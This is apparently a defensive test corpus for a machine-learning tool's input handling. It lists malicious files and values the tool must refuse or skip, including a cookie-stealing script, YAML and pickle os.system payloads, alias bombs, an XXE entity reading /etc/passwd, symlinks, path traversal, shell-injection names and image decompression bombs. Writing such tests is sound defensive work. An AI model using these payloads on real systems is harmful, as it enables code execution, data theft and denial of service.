ABOUT = '"network": {"_target_": "kd_runner.models.mlp.mlp", "hidden": [4]}, "num_classes": 2, "classes": ["a", "b"]'
INPUTS = {
    "a hook in the input": ('"image_shape": [1, 8, 8], "input": {"hook": "os.system"}', "input has 'hook'"),
    "a target in the input": ('"image_shape": [1, 8, 8], "input": {"_target_": "os.system"}', "input has '_target_'"),
    "an input that is a list": ('"image_shape": [1, 8, 8], "input": [1]', "input must be a record"),
    "a background that is a path": (
        '"image_shape": [1, 8, 8], "input": {"color": "gray", "origin": "files", "background": "/etc/passwd"}',
        "background: ",
    ),
    "a rule that nobody has": (
        '"image_shape": [1, 8, 8], "input": {"color": "gray", "origin": "files", "resize": "squash"}',
        "resize: must be 'cover'",
    ),
    "images of 2^60 pixels": ('"image_shape": [1, 1073741824, 1073741824]', "image_shape.1: "),
    "images of 2^38 pixels": ('"image_shape": [1, 524288, 524288]', "image_shape: must have at most"),
}
for name, (text, says) in INPUTS.items():
    whole = f'{{{ABOUT}, "mean": [0.5], "std": [0.5], {text}}}'
    case("safetensors metadata", name, "refused", _with_metadata(whole), says)

# Folders of runs and sweeps. `write` changes a good folder that is there already; the secret lies beside it.

SECRET = "secret.json"  # a file of somebody else, beside the folder
READ_FILES = ("result.json", "analysis.json", "settings.json")
OTHER_FILES = (
    "now.json",
    "sweep.json",
    "search.json",
    "multirun.yaml",
    ".hydra/overrides.yaml",
    ".hydra/hydra.yaml",
    "unfinished/begun.json",
    "networks/0/now.json",
    "kd-runner.log",
    "console.log",
)
WRITTEN_FILES = ("report.html", "leaderboard.csv", "leaderboard.md")
SCRIPT = "<script>fetch('http://127.0.0.1/'+document.cookie)</script><img src=x onerror=alert(1)>"


def _put(name: str, content: bytes) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = _cleared(folder / name)
        path.write_bytes(content)
        return path

    return write


def _cleared(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    return path


def _special(name: str, make: Callable[[Path], None]) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = _cleared(folder / name)
        make(path)
        return path

    return write


def _sparse(path: Path) -> None:
    path.touch()
    os.truncate(path, 2**40)


def _socket(path: Path) -> None:
    import socket

    here = Path.cwd()
    os.chdir(path.parent)  # the names of sockets are short
    try:
        with socket.socket(socket.AF_UNIX) as opened:
            opened.bind(path.name)
    finally:
        os.chdir(here)


SPECIALS: dict[str, Callable[[Path], None]] = {
    "a pipe": os.mkfifo if hasattr(os, "mkfifo") else Path.mkdir,  # type: ignore[dict-item]
    "a socket": _socket,
    "a folder": Path.mkdir,
    "1 TB of nothing": _sparse,
    "a link to /dev/zero": lambda path: path.symlink_to("/dev/zero"),
    "a link to /dev/stdin": lambda path: path.symlink_to("/dev/stdin"),
    "a link to /etc/passwd": lambda path: path.symlink_to("/etc/passwd"),
    "a link to a file of somebody else": lambda path: path.symlink_to(
        Path(os.path.relpath(_secret(path), path.parent))
    ),
    "a link to itself": lambda path: path.symlink_to(path.name),
    "a link to nowhere": lambda path: path.symlink_to("nowhere"),
    "a link to its folder": lambda path: path.symlink_to("."),
}


def _secret(path: Path) -> Path:
    return next(folder / SECRET for folder in path.absolute().parents if (folder / SECRET).exists())


BOMB = "\n".join(["a0: &a0 [x,x]", *(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 30))])
BAD_JSON = {
    "nothing": "",
    "NULs": "\0" * 99,
    "null": "null",
    "a list": "[1]",
    "a text": '"x"',
    "NaN": "NaN",
    "Infinity": '{"a": Infinity}',
    "half an object": '{"status": "completed", ',
    "no UTF-8": "\xff\xfe{",
    "lists in lists": "[" * 100_000,
    "objects in objects": '{"a":' * 100_000,
    "a number of 5,000 digits": "9" * 5000,
    "600 objects in one another": '{"a":' * 600 + "1" + "}" * 600,
    "a page": SCRIPT,
    "a key twice": '{"a":1,"a":[]}',
    "a pickle": "\x80\x04cos\nsystem\n.",
    "a BOM": "\ufeff{}",
    "half a letter": '{"\\ud800": "\\ud800"}',
}
BAD_YAML = {
    "an object of Python": f"!!python/object/apply:os.system ['touch {MARKER}']",
    "a module of Python": "!!python/module:antigravity",
    "a tag": "!evil x",
    "a bomb": f"{BOMB}\nhydra: {{overrides: {{task: *a29, hydra: []}}}}",
    "a bomb of a list": "- &a [x,x]\n"
    + "\n".join(f"- &{chr(97 + n)} [{','.join([f'*{chr(96 + n)}'] * 9)}]" for n in range(1, 25)),
    "an anchor that holds itself": "&a [*a]",
    "a merge with itself": "a: &a\n  <<: *a",
    "lists in lists": "[" * 5_000,
    "a number base 60": "a: " + ":".join(["59"] * 20_000),
    "a date that is none": "a: 2026-99-99",
    "a key that is a list": "? [a]\n: b",
    "no UTF-8": "\xff\xfe\x00",
    "a tab": "\t- a",
    "two documents": "a: 1\n---\nb: 2",
    "other kinds": "hydra: {overrides: {task: {a: b}, hydra: 3}, runtime: {config_sources: [1, {path: [x]}]}}",
    "an interpolation of itself": "hydra: {overrides: {task: ['${hydra}'], hydra: []}}",
    "an environment variable": "['a=${oc.env:HOME}']",
}
for file in (*READ_FILES, *OTHER_FILES):
    what_happens: Outcome = "refused" if file == "result.json" else "passed over"
    for name, make in SPECIALS.items():
        listed = name in ("a link to itself", "a link to nowhere")  # which no listing of files has
        case("run folder", f"{file}, {name}", "passed over" if listed else what_happens, _special(file, make), file)
    bad = BAD_YAML if file.endswith(".yaml") else BAD_JSON
    for name, text in bad.items():
        case("run folder", f"{file}, {name}", what_happens, _put(file, text.encode("utf-8", "surrogatepass")), file)
for file in WRITTEN_FILES:
    for name in ("a pipe", "a link to a file of somebody else", "a link to nowhere", "a link to itself"):
        stands = file == "report.html" and name in ("a pipe", "a link to a file of somebody else")
        case("run folder", f"{file}, {name}", "refused" if stands else "passed over", _special(file, SPECIALS[name]))


def _sweep_of(**changes: Any) -> Callable[[Path], Path]:
    import json

    content = {"jobs": ["seed=1"], "folders": ["1"], "names": ["1_s1"], **changes}
    return _put("../sweep.json", json.dumps(content).encode())


LEADING_OUT = ("../other", "../../other", "/etc", "a/../../../other", "..", ".", "", "x\0y", "x" * 5000, "C:\\x")
for text in LEADING_OUT:
    short = ascii(text[:20])
    case("run folder", f"sweep.json, a job in {short}", "passed over", _sweep_of(folders=[text]))
    case("run folder", f"sweep.json, a job called {short}", "passed over", _sweep_of(folders=["run"], names=[text]))
for name, place in (("tensorboard", "../tensorboard"), ("the events of a job", "../tensorboard/run")):
    case(
        "run folder",
        f"{name}, a link to another folder",
        "refused" if name == "tensorboard" else "passed over",  # the table of that job has a folder of its own
        _special(place, lambda path: path.symlink_to(_secret(path).parent / "other")),
        "tensorboard",
    )
for name in (".unfinished.events.out.tfevents.0.hparams", "events.out.tfevents.0.hparams", "events.out.tfevents.1.x"):
    for kind in ("a link to a file of somebody else", "a pipe"):
        case("run folder", f"{name}, {kind}", "passed over", _special(f"tensorboard/{name}", SPECIALS[kind]))
case("run folder", "event files of noise", "passed over", _put("tensorboard/events.out.tfevents.1.x", os.urandom(999)))


def _everywhere(value: Any) -> Callable[[Path], Path]:
    """Replace every text, or every number, of the files that a report reads."""
    import json

    def replaced(content: Any) -> Any:
        if isinstance(content, dict):
            keys = {key: key for key in content}
            return {keys[key]: replaced(item) for key, item in content.items()}
        if isinstance(content, list):
            return [replaced(item) for item in content]
        if isinstance(value, str):
            return value if isinstance(content, str) and content not in ("completed",) else content
        return value if isinstance(content, (int, float)) and not isinstance(content, bool) else content

    def write(folder: Path) -> Path:
        for name in READ_FILES:
            content = json.loads((folder / name).read_text())
            (folder / name).write_text(json.dumps(replaced(content)))
        return folder / "result.json"

    return write


TEXTS = {
    "a script": SCRIPT,
    "an attribute": '" onmouseover="alert(1)" x=\'',
    "the end of a comment": "--></style></script><script>alert(1)</script>",
    "an address of a script": "javascript:alert(1)",
    "a picture elsewhere": "http://127.0.0.1/track.png",
    "a template": "{{ config }}{% for x in range(10) %}",
    "escape sequences": "\x1b[2J\x1b]0;owned\x07",
    "right to left": "\u202eevil",
    "markup of a terminal": "[red]x[/red][link=http://127.0.0.1/]y",
    "markup of Markdown": "x | y\n\n# z <script>alert(1)</script> [a](javascript:alert(1))",
    "a formula": '=HYPERLINK("http://127.0.0.1/")',
    "a very long text": "x" * 100_000,
    "a path": "../../../etc/passwd",
    "a variable": "${oc.env:HOME}",
}
for name, text in TEXTS.items():
    case("run folder", f"every text is {name}", "read", _everywhere(text))
for name, number in (
    ("1e308", 1e308),
    ("-1", -1),
    ("10**4000", 10**4000),
    ("NaN", float("nan")),
    ("0", 0),
    ("2**63", 2**63),
):
    case("run folder", f"every number is {name}", "refused" if number else "read", _everywhere(number), "has no result")

# Journals of searches. `write` gets the folder of a good search with two trials, and changes its journal.


def _journal(change: Callable[[bytes], bytes]) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = folder / "study.journal"
        path.write_bytes(change(path.read_bytes()))
        return path

    return write


def _replacing(old: str, new: str) -> Callable[[bytes], bytes]:
    def change(content: bytes) -> bytes:
        assert old.encode() in content, old
        return content.replace(old.encode(), new.encode())

    return change


JOURNALS: dict[str, Callable[[bytes], bytes]] = {
    "trust in a trial's words": _replacing('"own":["', '"own":["trust=[evil]", "'),
    "a target in a trial's words": _replacing('"own":["', '"own":["+teacher._target_=os.system", "'),
    "a trial in another folder": _replacing('"folder":"', '"folder":"../../other/'),
    "a trial in /etc": _replacing('"folder":"', '"folder":"/etc/'),
    "a trial without a folder": _replacing('"folder"', '"nothing"'),
    "a folder that is a list": _replacing('"folder":"0"', '"folder":["0"]'),
    "words that are no texts": _replacing('"own":["', '"own":[1,"'),
    "no words": _replacing('"own"', '"nothing"'),
    "another study": _replacing("kd-runner", "other"),
    "an unknown operation": lambda content: content + b'{"op_code": 99, "worker_id": "x"}\n',
    "an operation that is a text": lambda content: content + b'{"op_code": "os.system"}\n',
    "a line that is no object": lambda content: content + b"[1]\n",
    "a line that is no JSON": lambda content: b"{\n" + content,
    "lists in lists": lambda content: content + b"[" * 100_000 + b"\n",
    "NULs": lambda content: content + bytes(999) + b"\n",
    "no UTF-8": lambda content: content + b'"\xff"\n',
    "a trial that is not there": lambda content: content + b'{"op_code": 6, "worker_id": "x", "trial_id": 99}\n',
    "a distribution of another kind": _replacing("FloatDistribution", "os.system"),
    "a distribution without an end": _replacing('\\"high\\": ', '\\"high\\": Infinity, \\"x\\": '),
}
for name, change in JOURNALS.items():
    other = name in ("another study", "NULs", "a trial that is not there")  # which Optuna passes over
    case("journal", name, "passed over" if other else "refused", _journal(change), "study.journal")
for name in ("a pipe", "a link to a file of somebody else", "a folder", "1 TB of nothing", "a link to /dev/zero"):
    case("journal", name, "refused", _special("study.journal", SPECIALS[name]), "study.journal")

# Entries of a store. `write` gets the folder of a good entry.


def _manifest(change: Callable[[dict[str, Any]], Any]) -> Callable[[Path], Path]:
    import json

    def write(folder: Path) -> Path:
        path = folder / "MANIFEST.json"
        content = json.loads(path.read_text())
        path.write_text(json.dumps(change(content)))
        return path

    return write


def _record(name: str) -> Callable[[dict[str, Any]], Any]:
    return lambda content: {"files": {**content["files"], name: {"size": 1, "sha256": "0" * 64}}}


MANIFESTS: dict[str, Callable[[dict[str, Any]], Any]] = {
    "a file above it": _record("../../secret.json"),
    "/etc/passwd": _record("/etc/passwd"),
    "/dev/zero": _record("/dev/zero"),
    "NULs": _record("x\0y"),
    "a name of 5,000 letters": _record("x" * 5000),
    "itself": _record("MANIFEST.json"),
    "a list": lambda content: [content],
    "a list of files": lambda content: {"files": ["network.safetensors"]},
    "sizes that are texts": lambda content: {"files": {key: {"size": "1", "sha256": 1} for key in content["files"]}},
    "no sizes": lambda content: {"files": {key: {} for key in content["files"]}},
    "no files": lambda content: {"files": {}},
    "nothing": lambda content: None,
    "a number": lambda content: 10**400,
}
for name, change in MANIFESTS.items():
    case("store entry", f"MANIFEST.json with {name}", "refused", _manifest(change))
for file in ("MANIFEST.json", "made_of.json", "network.safetensors", "epochs.json"):
    for name, make in SPECIALS.items():
        case("store entry", f"{file}, {name}", "refused", _special(file, make))
    for name in ("nothing", "lists in lists", "objects in objects", "a number of 5,000 digits", "no UTF-8", "a list"):
        case("store entry", f"{file}, {name}", "refused", _put(file, BAD_JSON[name].encode("utf-8", "surrogatepass")))

# Names of folders, classes and words.

NAMES = {
    "an option": "-rf",
    "two dashes": "--config-dir=x",
    "a format": "%s%n%d",
    "braces": "{}{0.__class__}",
    "a variable of the environment": "${oc.env:HOME}",
    "an interpolation": "${hydra.run.dir}",
    "a home": "~",
    "a command": "$(touch x)",
    "a semicolon": "a;touch x",
    "quotes": "a'b",
    "a space": " a ",
    "line breaks": "a\nb",
    "escape sequences": "a\x1b[2Jb",
    "right to left": "a\u202eb",
    "no UTF-8": os.fsdecode(b"a\xffb"),
    "a star": "*",
    "brackets": "[a,b]",
    "a comma": "a,b",
    "an equals sign": "trust=[os]",
    "a long name": "x" * 200,
    "markup": "[red]x[/red]",
    "HTML": "<script>alert(1)<",
    "a formula": "=1+1",
    "a colon": "a:b",
}
for name, text in NAMES.items():
    case("name", name, "read", lambda folder, text=text: folder / text)  # type: ignore[misc]

# Images.


def _png(width: int, height: int, data: bytes = b"", chunks: bytes = b"") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunks + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _text_chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


TIFF_LOOP = b"II*\0\x08\0\0\0" + struct.pack("<H", 0) + struct.pack("<I", 8)
IMAGES: dict[str, tuple[Outcome, bytes]] = {
    "PostScript called .png": ("refused", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(touch x) system\n"),
    "PostScript with a preview": (
        "refused",
        b"\xc5\xd0\xd3\xc6" + bytes(30) + b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n",
    ),
    "PDF": ("refused", b"%PDF-1.4\n"),
    "SVG with a script": ("refused", f"<svg>{SCRIPT}</svg>".encode()),
    "SVG with an entity": (
        "refused",
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><svg>&b;</svg>",
    ),
    "a PNG of 100,000 x 100,000": ("refused", _png(100_000, 100_000, zlib.compress(bytes(99)))),
    "a PNG of 2**31 - 1 squared": ("refused", _png(2**31 - 1, 2**31 - 1, zlib.compress(bytes(99)))),
    "a PNG of nothing": ("refused", _png(0, 0)),
    "a PNG without pixels": ("refused", _png(8, 8)),
    "a PNG whose pixels unfold to 64 MB": ("read", _png(8, 8, zlib.compress(bytes(2**26), 9))),
    "a PNG with a text of 64 MB": (
        "refused",
        _png(8, 8, zlib.compress(bytes(72)), _text_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(2**26), 9))),
    ),
    "a PNG with a colour profile of 64 MB": (
        "refused",
        _png(8, 8, zlib.compress(bytes(72)), _text_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(2**26), 9))),
    ),
    "a TIFF that points to itself": ("refused", TIFF_LOOP),
    "a TIFF of 4 billion tags": ("refused", b"II*\0\x08\0\0\0\xff\xff" + bytes(99)),
    "a GIF without an end": ("refused", b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b"!\xff\x0bNETSCAPE2.0" * 100),
    "a JPEG of markers": ("refused", b"\xff\xd8" + b"\xff\xe1\0\x02" * 50_000),
    "a BMP of 2**31 rows": (
        "refused",
        b"BM" + bytes(8) + struct.pack("<IIiiHHIIiiII", 54, 40, 2**31 - 1, -(2**31), 1, 24, 0, 0, 0, 0, 0, 0),
    ),
    "a PPM of many digits": ("refused", b"P6 " + b"9" * 4000 + b" 1 255\n"),
    "a page": ("refused", b"<!doctype html>"),
    "a pickle": ("refused", b"\x80\x04cos\nsystem\n."),
    "a WebP of nothing": ("refused", b"RIFF\xff\xff\xff\xffWEBPVP8X" + bytes(20)),
    "a QOI of 4 billion squared": ("refused", b"qoif" + b"\xff" * 8 + b"\3\0" + bytes(8)),
    "a FITS with a link": ("refused", b"SIMPLE  = T" + bytes(99)),
    "a spider of Pillow's formats": ("refused", b"\x0a\x05\x01\x08" + bytes(200)),
    "an icon of a Mac": ("refused", b"icns\0\0\0\x10ic10\0\0\0\x08"),
}
for name, (outcome, raw) in IMAGES.items():
    case("image", name, outcome, _bytes("a.png", raw))
for name, make in SPECIALS.items():
    case("image", name, "refused", _special("a.png", make))


if __name__ == "__main__":
    print(f"{'kind':<22}{'cases':>7}{'refused':>9}{'read':>6}{'passed over':>13}")
    rows = table()
    for row in rows:
        print(f"{row[0]:<22}{row[1]:>7}{row[2]:>9}{row[3]:>6}{row[4]:>13}")
    print(f"{'all':<22}{len(CORPUS):>7}")
